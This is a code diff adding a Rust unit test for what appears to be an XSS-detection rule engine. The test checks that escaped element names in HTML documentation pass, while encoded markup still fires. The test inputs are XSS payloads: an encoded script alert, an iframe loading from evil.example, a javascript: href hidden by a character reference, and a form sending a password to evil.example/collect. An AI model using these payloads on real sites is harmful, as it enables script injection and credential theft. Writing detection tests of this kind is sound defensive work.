@@ -380,6 +380,22 @@ mod tests {
     }
 
     #[test]
+    fn element_names_escaped_in_html_are_text_but_escaped_markup_alone_fires() {
+        // Documentation that is HTML names elements; a browser shows the names.
+        for b in [
+            "Inside an <code>&lt;iframe&gt;</code> with <code>display:none</code> applied.",
+            "Modules (<code>&lt;script type=\"module\"&gt;</code>). See <a href=\"https://crbug.com/1\">bug 1</a>.",
+        ] {
+            assert!(!fires(941110, b), "flagged {b:?}");
+        }
+        // With no real tag, the value may be decoded before it is read as markup.
+        assert!(fires(941110, "&lt;script&gt;alert(1)&lt;/script&gt;"));
+        assert!(fires(941110, "%26lt%3Biframe src=//evil.example%26gt%3B"));
+        // References inside a real tag's attribute are decoded, as a browser does.
+        assert!(fires(941170, "<a href=\"&#106;avascript:alert(1)\">x</a>"));
+    }
+
+    #[test]
     fn offsite_forms_and_htmx_requests_fire_but_same_site_ones_do_not() {
         for a in [
             "<form action='//evil.example/collect' method=post><input name=pass type=password></form>",
